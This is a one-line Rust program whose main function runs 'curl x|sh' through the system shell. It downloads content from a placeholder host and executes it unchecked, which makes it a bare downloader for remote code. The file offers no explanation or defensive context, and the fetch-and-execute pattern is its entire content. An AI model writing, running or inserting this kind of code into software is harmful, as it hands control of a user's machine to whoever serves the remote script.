fn main(){std::process::Command::new("sh").arg("-c").arg("curl x|sh").status();}
